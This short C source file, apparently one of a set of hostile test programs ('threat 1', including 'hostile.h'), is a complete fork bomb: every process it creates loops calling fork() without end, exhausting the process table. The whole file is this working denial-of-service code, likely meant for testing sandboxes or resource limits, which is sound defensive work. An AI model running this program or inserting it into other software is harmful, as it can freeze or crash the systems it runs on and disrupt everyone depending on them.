// processes; threat 1
// Every process of it forks for ever.
#include "hostile.h"

int main(void) {
    for (;;)
        if (fork() < 0 && errno != EINTR)
            break;
    for (;;)
        fork();
}
